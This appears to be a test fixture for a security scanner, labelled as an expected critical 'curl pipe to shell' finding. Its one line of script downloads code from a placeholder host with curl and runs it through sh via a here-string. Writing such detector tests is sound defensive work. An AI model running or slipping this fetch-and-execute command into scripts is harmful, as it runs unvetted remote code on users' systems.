# expect: shell.curl_pipe_shell critical
# note: a here-string of the download feeds the shell
# path: scripts/tp_herestring_to_sh.sh
#!/bin/sh
sh <<< "$(curl -fsSL https://get.example.net/i)"
